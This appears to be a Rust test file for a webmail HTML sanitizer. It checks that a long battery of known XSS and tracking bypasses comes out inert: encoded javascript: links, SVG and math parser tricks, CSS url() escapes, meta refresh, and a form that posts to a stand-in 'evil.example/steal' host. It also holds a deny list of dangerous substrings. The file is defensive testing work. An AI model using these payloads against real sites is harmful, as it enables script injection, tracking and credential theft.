//! The sanitizer against known webmail bypasses: nothing that loads, runs or submits survives.

use super::*;

/// Substrings that must never appear in sanitized output (lowercased): elements and attributes
/// that load, run, navigate or submit, and every URL scheme but the data URIs we make ourselves.
const FORBIDDEN: &[&str] = &[
    "<script",
    "<style",
    "<svg",
    "<math",
    "<base",
    "<meta",
    "<link",
    "<form",
    "<input",
    "<button",
    "<object",
    "<embed",
    "<iframe",
    "<frame",
    "<video",
    "<audio",
    "<source",
    "<picture",
    "<image",
    "<feimage",
    "<use",
    "<animate",
    "<set",
    "<template",
    "<isindex",
    "href=",
    "src=",
    "srcset",
    "action=",
    "formaction",
    "poster=",
    "background=",
    "ping=",
    "xlink",
    "cite=",
    "longdesc",
    "http:",
    "https:",
    "ftp:",
    "//",
    "javascript",
    "vbscript",
    "data:",
    "url(",
    "@import",
    "expression",
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "ontoggle",
    "onfocus",
    "onbegin",
    "onanimation",
    "http-equiv",
    "refresh",
];

/// Asserts that `out` (sanitized `input`) has nothing URL-bearing or active in it.
fn assert_inert(input: &str, out: &str) {
    let lower = out.to_ascii_lowercase();
    for bad in FORBIDDEN {
        assert!(
            !lower.contains(bad),
            "{bad:?} survived sanitizing\n  input:  {input}\n  output: {out}"
        );
    }
}

fn clean(html: &str) -> String {
    sanitize_html(html, InlineImages::default())
}

/// The battery: each entry is one known bypass or remote-load trick.
const BATTERY: &[&str] = &[
    // Script and event handlers, mixed case.
    "<script>alert(1)</script>",
    "<ScRiPt SRC=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert(1)\">",
    "<body onload=alert(1)>hi",
    "<details open ontoggle=alert(1)>x</details>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    // javascript:, vbscript: and data: URLs, plain, mixed case, entity-encoded, with controls.
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&#x3A;alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"https://evil.example/phish\">click</a>",
    "<a href=\"cid:part@example\">a part</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"DATA:text/html,<script>alert(1)</script>\">x</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    // Remote images, plain and disguised.
    "<img src=\"https://tracker.example/pixel.gif\">",
    "<IMG SRC=\"HTTP://tracker.example/p.gif\">",
    "<img src=\"h&#116;tps://tracker.example/p.gif\">",
    "<img src=\"//tracker.example/p.gif\">",
    "<img src=\"/p/other-token/att/0/0\">",
    "<img srcset=\"https://tracker.example/a.png 1x, https://tracker.example/b.png 2x\">",
    "<picture><source srcset=\"https://tracker.example/a.webp\"><img alt=x></picture>",
    "<img lowsrc=\"https://tracker.example/l.gif\" dynsrc=\"https://tracker.example/d.avi\">",
    "<video poster=\"https://tracker.example/p.png\"><source src=\"https://tracker.example/v.mp4\"></video>",
    "<audio src=\"https://tracker.example/a.mp3\"></audio>",
    "<table background=\"https://tracker.example/bg.png\"><tr><td background=\"https://tracker.example/td.png\">x</td></tr></table>",
    "<input type=image src=\"https://tracker.example/i.png\">",
    // SVG: feImage, image, use, animate, foreignObject.
    "<svg><filter id=f><feImage xlink:href=\"https://tracker.example/f.png\"/></filter><rect filter=\"url(#f)\"/></svg>",
    "<svg><image href=\"https://tracker.example/i.png\"/></svg>",
    "<svg><use href=\"https://tracker.example/s.svg#x\"/></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    "<svg><foreignObject><img src=\"https://tracker.example/fo.png\"></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    // CSS: @import, url() in style elements and attributes, escapes, comments, expression().
    "<style>@import url(https://evil.example/x.css);</style><p>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://tracker.example/bg.png)}</style>",
    "<p style=\"background:url(https://tracker.example/bg.png)\">x</p>",
    "<p style=\"background-image: URL('https://tracker.example/bg.png')\">x</p>",
    "<p style=\"color:red;background:u\\72l(https://tracker.example/bg.png)\">x</p>",
    "<p style=\"background:url/**/(https://tracker.example/bg.png)\">x</p>",
    "<p style=\"list-style-image:url(https://tracker.example/l.png)\">x</p>",
    "<p style=\"border-image:url(https://tracker.example/b.png) 30\">x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<p style=\"background:image-set('https://tracker.example/i.png' 1x)\">x</p>",
    "<p style=\"behavior:url(https://evil.example/x.htc);-moz-binding:url(https://evil.example/x.xml#x)\">x</p>",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    // <base>, <meta> refresh, forms, objects, frames.
    "<base href=\"https://evil.example/\"><a href=\"x\">x</a><img src=\"y.png\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<META HTTP-EQUIV=\"Refresh\" CONTENT=\"0; URL=javascript:alert(1)\">",
    "<form action=\"https://evil.example/steal\"><input name=p><button formaction=\"https://evil.example/b\">go</button></form>",
    "<isindex action=\"https://evil.example/\">",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<frameset><frame src=\"https://evil.example/\"></frameset>",
    "<a ping=\"https://tracker.example/ping\">x</a>",
    "<blockquote cite=\"https://tracker.example/c\">q</blockquote>",
    // Parser confusion and conditional comments.
    "<!--[if gte mso 9]><img src=\"https://tracker.example/mso.png\"><![endif]-->",
    "<scr<script>ipt>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a href=\"ｊavascript:alert(1)\">fullwidth</a>",
    "<img src=\"cid:unknown-part@example\">",
];

#[test]
fn every_known_bypass_in_the_battery_comes_out_inert() {
    for input in BATTERY {
        assert_inert(input, &clean(input));
    }
}

#[test]
fn the_whole_battery_in_one_document_comes_out_inert() {
    let all = BATTERY.concat();
    assert_inert("<the whole battery>", &clean(&all));
}

#[test]
fn harmless_mail_formatting_survives() {
    let out = clean(
        "<table width=\"100%\" cellpadding=\"4\"><tr><td align=\"center\" bgcolor=\"#eeeeee\">\
         <p style=\"color: #333333; font-weight: bold\">Lab <b>results</b> <i>attached</i></p>\
         </td></tr></table><a href=\"https://example.org/\">a link</a>",
    );
    for kept in [
        "<table",
        "width=\"100%\"",
        "bgcolor=\"#eeeeee\"",
        "<b>results</b>",
        "color:#333333",
    ] {
        assert!(out.contains(kept), "{kept:?} was lost: {out}");
    }
    assert!(
        out.contains(">a link</a>"),
        "link text stays without its href: {out}"
    );
    assert!(!out.contains("example.org"), "{out}");
}

#[test]
fn a_style_with_any_url_loses_the_whole_attribute_but_keeps_the_text() {
    let out = clean("<p style=\"color:red; background:url(https://t.example/x)\">kept</p>");
    assert_eq!(out, "<p>kept</p>");
}

#[test]
fn cid_images_become_data_uris_of_their_inline_part_and_others_are_dropped() {
    let mut images = InlineImages::default();
    images.insert("<logo@example>", "image/png", b"\x89PNG fake");
    images.insert("vector@example", "image/svg+xml", b"<svg onload=alert(1)/>");
    let out = sanitize_html(
        "<img src=\"cid:logo@example\" alt=logo><img src=\"CID:logo%40example\">\
         <img src=\"cid:vector@example\"><img src=\"cid:missing@example\">",
        images,
    );
    let expected = "data:image/png;base64,iVBORyBmYWtl";
    assert_eq!(out.matches(expected).count(), 2, "{out}");
    assert!(!out.contains("svg"), "svg parts are never inlined: {out}");
    assert_eq!(out.matches("<img").count(), 4, "{out}");
    assert_eq!(out.matches("src=").count(), 2, "{out}");
}

#[test]
fn the_body_document_declares_utf8_and_wraps_the_fragment() {
    let doc = body_document("<p>x</p>");
    assert!(doc.starts_with("<!DOCTYPE html>"));
    assert!(doc.contains("<meta charset=\"utf-8\">"));
    assert!(doc.contains("<body><p>x</p></body>"));
}
